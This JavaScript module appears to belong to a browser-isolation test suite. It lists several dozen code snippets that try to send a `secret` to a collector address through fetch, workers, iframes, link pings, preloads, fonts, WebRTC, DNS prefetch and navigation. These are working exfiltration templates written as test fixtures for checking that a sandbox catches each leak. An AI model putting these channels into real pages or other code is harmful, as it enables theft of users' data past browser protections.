// biome-ignore-all lint/suspicious/noTemplateCurlyInString: bodies of functions, as text.
// What hostile code in a whole document would try, besides what a frame would (frame.mjs). Bodies of async functions (secret, url, at) as in
// worker.mjs; `at` has the addresses of collectors: { udp } for STUN and WebTransport, { tcp } for connections that ask for nothing.

const element = (tag, properties) =>
  `const e = document.createElement('${tag}'); Object.assign(e, ${properties}); document.documentElement.append(e);`;
const blob = (text, type = 'text/javascript') => `URL.createObjectURL(new Blob([${text}], { type: '${type}' }))`;
const markup = (text) => `document.documentElement.insertAdjacentHTML('beforeend', \`${text}\`)`;
/** With the functions of another realm of the same origin. */
const frame = (work, properties = '{}') =>
  `${element('iframe', properties)} if (e.src || e.srcdoc) await new Promise((done) => (e.onload = done));
   const inside = e.contentWindow; ${work}`;

/** Noticed by the collector. None ends the document. */
export const network = {
  'fetch, kept alive': 'fetch(url + secret, { keepalive: true })',
  'fetch, later': 'fetchLater(url + secret, { activateAfter: 0 })',
  'fetch, no-cors, in the body': "fetch(url, { method: 'POST', mode: 'no-cors', body: secret })",
  'XMLHttpRequest that waits': "const r = new XMLHttpRequest(); r.open('GET', url + secret, false); r.send()",
  'cache filling': "await (await caches.open('leak')).add(url + secret)",
  'streaming compilation': 'await WebAssembly.compileStreaming(fetch(url + secret))',
  'fetch of an empty frame': frame('inside.fetch(url + secret)'),
  'fetch of a frame of markup': frame('inside.fetch(url + secret)', "{ srcdoc: '<p>' }"),
  'fetch of a frame of a blob': frame('inside.fetch(url + secret)', `{ src: ${blob("'<p>'", 'text/html')} }`),
  'fetch of a frame of data': element(
    'iframe',
    '{ src: `data:text/html,<script>fetch("${url}${secret}",{mode:"no-cors"})</script>` }',
  ),
  'fetch of a frame of script': element('iframe', '{ src: `javascript:fetch("${url}${secret}")` }'),
  'fetch of an empty window': "open('about:blank').fetch(url + secret)",
  'window without an opener': "open(url + secret, '_blank', 'noopener')",
  'link to a new window': `${element('a', "{ href: url + secret, target: '_blank', rel: 'noopener' }")} e.click()`,
  'ping of a link': `${element('a', "{ href: '#here', ping: url + secret }")} e.click()`,
  'worker of data': 'new Worker(`data:text/javascript,fetch("${url}${secret}",{mode:"no-cors"})`)',
  'worker that imports scripts': `new Worker(${blob('`importScripts("${url}${secret}")`')})`,
  'worker that imports a module': `new Worker(${blob('`import "${url}${secret}"`')}, { type: 'module' })`,
  'worker in a worker': `const inner = ${blob('`fetch("${url}${secret}")`')}; new Worker(${blob('`new Worker("${inner}")`')})`,
  'worker from an address': 'new Worker(url + secret)',
  'module worker from an address': "new Worker(url + secret, { type: 'module' })",
  'shared worker from an address': 'new SharedWorker(url + secret)',
  'service worker': 'await navigator.serviceWorker.register(url + secret)',
  'audio worklet': 'await new OfflineAudioContext(1, 1, 16000).audioWorklet.addModule(url + secret)',
  'module script': element('script', "{ type: 'module', src: url + secret }"),
  preload: element('link', "{ rel: 'preload', as: 'image', href: url + secret }"),
  modulepreload: element('link', "{ rel: 'modulepreload', href: url + secret }"),
  prerender: element('link', "{ rel: 'prerender', href: url + secret }"),
  'speculation rules': element(
    'script',
    "{ type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [url + secret], eagerness: 'immediate' }] }) }",
  ),
  icon: "const e = document.createElement('link'); Object.assign(e, { rel: 'icon', href: url + secret }); document.head.append(e)",
  object: element('object', '{ data: url + secret }'),
  embed: element('embed', '{ src: url + secret }'),
  'video poster': element('video', '{ poster: url + secret }'),
  'text track': `${element('video', "{ src: 'data:,' }")} const t = document.createElement('track');
    Object.assign(t, { src: url + secret, default: true, kind: 'captions' }); e.append(t); t.track.mode = 'showing'`,
  'picture of several': markup('<img srcset="${url}${secret} 1x">'),
  'picture of a button': markup('<input type="image" src="${url}${secret}">'),
  'picture in a drawing': markup('<svg><image href="${url}${secret}"/></svg>'),
  'drawing used in a drawing': markup('<svg><use href="${url}${secret}#a"/></svg>'),
  'mask of an element': markup('<p style="mask: url(${url}${secret}#m)">x</p>'),
  'stylesheet that imports': element('style', '{ textContent: `@import "${url}${secret}"` }'),
  font: 'await new FontFace("leak", `url(${url}${secret})`).load()',
  'payment manifest': `await new PaymentRequest([{ supportedMethods: url + secret }],
    { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  'identity provider': `await navigator.credentials.get({ identity: { providers: [{ configURL: url + secret, clientId: 'x' }] } })`,
  download: `${element('a', "{ href: url + secret, download: 'leak' }")} e.click()`,
  'download of a frame': frame(
    "const a = inside.document.createElement('a'); Object.assign(a, { href: url + secret, download: 'leak' }); inside.document.body.append(a); a.click()",
  ),
};

/** Each ends the document, so each has one of its own. Noticed by the collector. */
export const navigation = {
  'going to an address': 'location.href = url + secret',
  'going there by refresh': markup('<meta http-equiv="refresh" content="0;url=${url}${secret}">'),
  'going there by a link': `${element('a', '{ href: url + secret }')} e.click()`,
  'going there by a form': `${element('form', "{ action: url + secret, method: 'post' }")} e.submit()`,
  'going there by history': 'navigation.navigate(url + secret)',
};

/** Noticed as datagrams. */
export const datagrams = {
  WebRTC: `const c = globalThis.leak = new RTCPeerConnection({ iceServers: [{ urls: at.udp }] }); c.createDataChannel('leak');
    await c.setLocalDescription(await c.createOffer())`,
  WebTransport: "await new WebTransport(at.udp.replace('stun', 'https') + '/' + secret).ready",
  'WebRTC of a frame without origin': `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
    f.src = URL.createObjectURL(new Blob(['<script>const c = globalThis.leak = new RTCPeerConnection({ iceServers: [{ urls: "' + at.udp +
      '" }] }); c.createDataChannel("leak"); c.createOffer().then((o) => c.setLocalDescription(o))</' + 'script>'], { type: 'text/html' }));
    document.documentElement.append(f)`,
  'WebRTC of an empty frame':
    frame(`const c = globalThis.leak = new inside.RTCPeerConnection({ iceServers: [{ urls: at.udp }] });
    c.createDataChannel('leak'); await c.setLocalDescription(await c.createOffer())`),
};

/** Noticed as a connection that asks for nothing. */
export const connections = {
  preconnect: element('link', "{ rel: 'preconnect', href: at.tcp }"),
};

/** Noticed as a question for a name, where the test's own resolver is asked. */
export const names = {
  'dns-prefetch': element('link', "{ rel: 'dns-prefetch', href: `//${secret.slice(0, 39)}.example` }"),
};

/** By what a policy that came with the document has reported. Noticed by the collector. */
export const reports = {
  'refused picture, reported': 'new Image().src = `${location.origin}/${secret}`',
};
